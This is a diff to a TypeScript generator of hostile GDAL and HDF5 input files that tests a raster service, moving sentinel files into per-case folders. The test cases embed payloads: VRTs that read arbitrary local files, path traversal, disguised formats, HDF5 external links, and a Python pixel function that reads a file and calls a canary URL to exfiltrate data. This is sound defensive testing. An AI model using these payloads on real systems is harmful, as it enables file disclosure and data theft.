@@ -11,7 +11,7 @@
  * reach them from any scratch folder, through /vsizip/, or through HDF5 links and external storage.
  */
 import { execFileSync } from 'node:child_process';
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { basename, join } from 'node:path';
 import gdal from 'gdal-async';
@@ -75,9 +75,10 @@ export type HostileCase = FileCase | RequestCase;
 export interface HostileCorpus {
   root: string;
   sentinel: {
-    /** Files that must never be opened by the host (watched with inotify when available). */
-    watchedPaths: string[];
-    tifPath: string;
+    /** Folder of every sentinel file: nothing under it may be opened by the host (watched with inotify when available). */
+    root: string;
+    /** The folder of one case's sentinel files (`<root>/<case id>`). */
+    folderOf(caseId: string): string;
   };
   /** Generator notes (cases skipped because a tool was missing). */
   notes: string[];
@@ -236,24 +237,43 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
   const cases: HostileCase[] = [];
   const python = findPythonWithH5py();
 
-  // Sentinels: content that must never reach an output, at paths that must never be opened.
-  const sentinelTif = writeRaster(join(sentinelDir, 'sentinel.tif'), {
-    width: 64,
-    height: 64,
-    bands: 1,
-    dataType: gdal.GDT_Float32,
-    srs: gdal.SpatialReference.fromEPSG(32633),
-    geoTransform: [500000, 10, 0, 6000000, 0, -10],
-    creationOptions: [],
-    value: () => sentinelPixelValue,
-  });
-  const sentinelVrt = join(sentinelDir, 'sentinel-inner.vrt');
-  writeFileSync(sentinelVrt, vrtDocument(simpleSourceBand(sentinelTif)));
-  const sentinelZip = join(sentinelDir, 'sentinel.zip');
-  const sentinelH5 = join(sentinelDir, 'sentinel.h5');
-
-  const pythonJobs: PythonJob[] = [{ kind: 'zip', path: sentinelZip, entries: [{ path: sentinelTif, name: 'sentinel.tif' }] }];
-  if (python) pythonJobs.push({ kind: 'h5-sentinel', path: sentinelH5, value: sentinelPixelValue });
+  const pythonJobs: PythonJob[] = [];
+  // Sentinels: content that must never reach an output, at paths that must never be opened. Each
+  // case gets its own folder under sentinel/, so an open of any file there names the case.
+  const sentinelFolder = (caseId: string): string => {
+    const folderPath = join(sentinelDir, caseId);
+    mkdirSync(folderPath, { recursive: true });
+    return folderPath;
+  };
+  const sentinelTif = (caseId: string): string => {
+    const path = join(sentinelFolder(caseId), 'sentinel.tif');
+    if (existsSync(path)) return path;
+    return writeRaster(path, {
+      width: 64,
+      height: 64,
+      bands: 1,
+      dataType: gdal.GDT_Float32,
+      srs: gdal.SpatialReference.fromEPSG(32633),
+      geoTransform: [500000, 10, 0, 6000000, 0, -10],
+      creationOptions: [],
+      value: () => sentinelPixelValue,
+    });
+  };
+  const sentinelVrt = (caseId: string): string => {
+    const path = join(sentinelFolder(caseId), 'sentinel-inner.vrt');
+    writeFileSync(path, vrtDocument(simpleSourceBand(sentinelTif(caseId))));
+    return path;
+  };
+  const sentinelZip = (caseId: string): string => {
+    const path = join(sentinelFolder(caseId), 'sentinel.zip');
+    pythonJobs.push({ kind: 'zip', path, entries: [{ path: sentinelTif(caseId), name: 'sentinel.tif' }] });
+    return path;
+  };
+  const sentinelH5 = (caseId: string): string => {
+    const path = join(sentinelFolder(caseId), 'sentinel.h5');
+    pythonJobs.push({ kind: 'h5-sentinel', path, value: sentinelPixelValue });
+    return path;
+  };
 
   const local = (name: string): string => join(filesDir, name);
   const text = (name: string, content: string): string => {
@@ -303,35 +323,35 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
     id: 'vrt-simple-sentinel',
     category: 'VRT, local file',
     attack: 'SimpleSource on a GeoTIFF at a known local path (the sentinel)',
-    files: [text('simple.vrt', vrtDocument(simpleSourceBand(sentinelTif)))],
+    files: [text('simple.vrt', vrtDocument(simpleSourceBand(sentinelTif('vrt-simple-sentinel'))))],
     expect: { outcome: 'job-failed', reason: vrtRefusal },
   });
   fileCase({
     id: 'vrt-complex-relative-sentinel',
     category: 'VRT, local file',
     attack: 'ComplexSource with relativeToVRT=1 climbing to the sentinel',
-    files: [text('complex.vrt', vrtDocument(simpleSourceBand(climbingPath(sentinelTif), 'Float32', true, 'ComplexSource')))],
+    files: [text('complex.vrt', vrtDocument(simpleSourceBand(climbingPath(sentinelTif('vrt-complex-relative-sentinel')), 'Float32', true, 'ComplexSource')))],
     expect: { outcome: 'job-failed', reason: vrtRefusal },
   });
   fileCase({
     id: 'vrt-nested',
     category: 'VRT, local file',
     attack: 'a VRT whose source is another VRT (on local disk) whose source is the sentinel',
-    files: [text('outer.vrt', vrtDocument(simpleSourceBand(sentinelVrt)))],
+    files: [text('outer.vrt', vrtDocument(simpleSourceBand(sentinelVrt('vrt-nested'))))],
     expect: { outcome: 'job-failed', reason: vrtRefusal },
   });
   fileCase({
     id: 'vrt-disguised-as-tif',
     category: 'VRT, disguised',
     attack: 'VRT XML named scene.tif (sentinel source): extension checks do not help',
-    files: [text('scene.tif', vrtDocument(simpleSourceBand(sentinelTif)))],
+    files: [text('scene.tif', vrtDocument(simpleSourceBand(sentinelTif('vrt-disguised-as-tif'))))],
     expect: { outcome: 'job-failed', reason: vrtRefusal },
   });
   fileCase({
     id: 'vrt-xml-prolog',
     category: 'VRT, disguised',
     attack: 'VRT after an XML declaration and a comment, named .xml: first-bytes sniffing does not help',
-    files: [text('prolog.xml', `<?xml version="1.0" encoding="UTF-8"?>\n<!-- ${'padding '.repeat(40)} -->\n${vrtDocument(simpleSourceBand(sentinelTif))}`)],
+    files: [text('prolog.xml', `<?xml version="1.0" encoding="UTF-8"?>\n<!-- ${'padding '.repeat(40)} -->\n${vrtDocument(simpleSourceBand(sentinelTif('vrt-xml-prolog')))}`)],
     expect: { outcome: 'job-failed', reason: vrtRefusal },
   });
   fileCase({
@@ -345,7 +365,7 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
           `  <GeoTransform>${gridTransform}</GeoTransform>\n  <VRTRasterBand dataType="Float32" band="1" subClass="VRTWarpedRasterBand" />\n` +
           `  <BlockXSize>64</BlockXSize><BlockYSize>64</BlockYSize>\n  <GDALWarpOptions>\n    <WarpMemoryLimit>6.7e+07</WarpMemoryLimit>\n` +
           `    <ResampleAlg>NearestNeighbour</ResampleAlg><WorkingDataType>Float32</WorkingDataType>\n` +
-          `    <SourceDataset relativeToVRT="0">${xmlEscape(sentinelTif)}</SourceDataset>\n` +
+          `    <SourceDataset relativeToVRT="0">${xmlEscape(sentinelTif('vrt-warped-sentinel'))}</SourceDataset>\n` +
           `    <Transformer><ApproxTransformer><MaxError>0.125</MaxError><BaseTransformer><GenImgProjTransformer>\n` +
           `      <SrcGeoTransform>${gridTransform}</SrcGeoTransform><SrcInvGeoTransform>-50000, 0.1, 0, 600000, 0, -0.1</SrcInvGeoTransform>\n` +
           `      <DstGeoTransform>${gridTransform}</DstGeoTransform><DstInvGeoTransform>-50000, 0.1, 0, 600000, 0, -0.1</DstInvGeoTransform>\n` +
@@ -363,8 +383,8 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
       text(
         'pansharpened.vrt',
         `<VRTDataset subClass="VRTPansharpenedDataset">\n  <PansharpeningOptions>\n` +
-          `    <PanchroBand><SourceFilename relativeToVRT="0">${xmlEscape(sentinelTif)}</SourceFilename><SourceBand>1</SourceBand></PanchroBand>\n` +
-          `    <SpectralBand dstBand="1"><SourceFilename relativeToVRT="0">${xmlEscape(sentinelTif)}</SourceFilename><SourceBand>1</SourceBand></SpectralBand>\n` +
+          `    <PanchroBand><SourceFilename relativeToVRT="0">${xmlEscape(sentinelTif('vrt-pansharpened'))}</SourceFilename><SourceBand>1</SourceBand></PanchroBand>\n` +
+          `    <SpectralBand dstBand="1"><SourceFilename relativeToVRT="0">${xmlEscape(sentinelTif('vrt-pansharpened'))}</SourceFilename><SourceBand>1</SourceBand></SpectralBand>\n` +
           `  </PansharpeningOptions>\n</VRTDataset>\n`,
       ),
     ],
@@ -381,9 +401,9 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
           `  <VRTRasterBand dataType="Float32" band="1" subClass="VRTDerivedRasterBand">\n` +
             `    <PixelFunctionType>exfiltrate</PixelFunctionType>\n    <PixelFunctionLanguage>Python</PixelFunctionLanguage>\n` +
             `    <PixelFunctionCode><![CDATA[\nimport urllib.request\ndef exfiltrate(in_ar, out_ar, *args, **kwargs):\n` +
-            `    open(${JSON.stringify(sentinelTif)}, 'rb').read()\n    urllib.request.urlopen(${JSON.stringify(canaryUrl('vrt-derived-python', 'pixel-function'))})\n` +
+            `    open(${JSON.stringify(sentinelTif('vrt-derived-python'))}, 'rb').read()\n    urllib.request.urlopen(${JSON.stringify(canaryUrl('vrt-derived-python', 'pixel-function'))})\n` +
             `    out_ar[:] = ${sentinelPixelValue}\n]]></PixelFunctionCode>\n` +
-            `    <SimpleSource><SourceFilename relativeToVRT="0">${xmlEscape(sentinelTif)}</SourceFilename><SourceBand>1</SourceBand></SimpleSource>\n  </VRTRasterBand>`,
+            `    <SimpleSource><SourceFilename relativeToVRT="0">${xmlEscape(sentinelTif('vrt-derived-python'))}</SourceFilename><SourceBand>1</SourceBand></SimpleSource>\n  </VRTRasterBand>`,
         ),
       ),
     ],
@@ -416,7 +436,7 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
     id: 'vrt-vsizip-sentinel',
     category: 'VRT, virtual file system',
     attack: 'SimpleSource on /vsizip/ into a local zip holding the sentinel',
-    files: [text('vsizip.vrt', vrtDocument(simpleSourceBand(`/vsizip/${sentinelZip}/sentinel.tif`)))],
+    files: [text('vsizip.vrt', vrtDocument(simpleSourceBand(`/vsizip/${sentinelZip('vrt-vsizip-sentinel')}/sentinel.tif`)))],
     expect: { outcome: 'job-failed', reason: vrtRefusal },
   });
   fileCase({
@@ -531,7 +551,7 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
     files: [{ blobName: 'MEM:::DATAPOINTER=0x1000,PIXELS=64,LINES=64.tif', localPath: memNamed }],
     expect: { outcome: 'job-completed-clean' },
   });
-  const zippedVrt = text('zipped-inner.vrt', vrtDocument(simpleSourceBand(sentinelTif)));
+  const zippedVrt = text('zipped-inner.vrt', vrtDocument(simpleSourceBand(sentinelTif('zip-disguised-as-tif'))));
   pythonJobs.push({ kind: 'zip', path: local('archive.tif'), entries: [{ path: zippedVrt, name: 'scene.vrt' }] });
   fileCase({
     id: 'zip-disguised-as-tif',
@@ -560,7 +580,7 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
     expect: { outcome: 'job-failed', reason: /HDF5|netCDF-4/i },
   });
   if (python) {
-    pythonJobs.push({ kind: 'h5-external-link', path: local('external-link.nc'), shape: [64, 64], target: sentinelH5, targetPath: '/sentinel' });
+    pythonJobs.push({ kind: 'h5-external-link', path: local('external-link.nc'), shape: [64, 64], target: sentinelH5('netcdf4-external-link'), targetPath: '/sentinel' });
     fileCase({
       id: 'netcdf4-external-link',
       category: 'HDF5 / netCDF-4',
@@ -576,7 +596,7 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
       files: [local('external-passwd.nc')],
       expect: { outcome: 'job-failed', reason: /HDF5|netCDF-4/i },
     });
-    pythonJobs.push({ kind: 'h5-external-storage', path: local('external-sentinel.h5'), shape: [64, 64], target: sentinelTif, dtype: '<f4', bytes: 64 * 64 * 4 });
+    pythonJobs.push({ kind: 'h5-external-storage', path: local('external-sentinel.h5'), shape: [64, 64], target: sentinelTif('hdf5-external-storage-sentinel'), dtype: '<f4', bytes: 64 * 64 * 4 });
     fileCase({
       id: 'hdf5-external-storage-sentinel',
       category: 'HDF5 / netCDF-4',
@@ -650,7 +670,7 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
     files: [
       text(
         'label.lbl',
-        `PDS_VERSION_ID = PDS3\r\nRECORD_TYPE = FIXED_LENGTH\r\nRECORD_BYTES = 256\r\n^IMAGE = ("${climbingPath(sentinelTif)}", 1)\r\n` +
+        `PDS_VERSION_ID = PDS3\r\nRECORD_TYPE = FIXED_LENGTH\r\nRECORD_BYTES = 256\r\n^IMAGE = ("${climbingPath(sentinelTif('pds-detached-label'))}", 1)\r\n` +
           `OBJECT = IMAGE\r\n  LINES = 64\r\n  LINE_SAMPLES = 64\r\n  SAMPLE_TYPE = PC_REAL\r\n  SAMPLE_BITS = 32\r\n  BANDS = 1\r\nEND_OBJECT = IMAGE\r\nEND\r\n`,
       ),
     ],
@@ -774,7 +794,7 @@ export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
 
   return {
     root,
-    sentinel: { tifPath: sentinelTif, watchedPaths: [sentinelTif, sentinelVrt, sentinelZip, ...(python ? [sentinelH5] : [])] },
+    sentinel: { root: sentinelDir, folderOf: (caseId: string) => join(sentinelDir, caseId) },
     notes,
     cases,
     remove: () => rmSync(root, { recursive: true, force: true }),
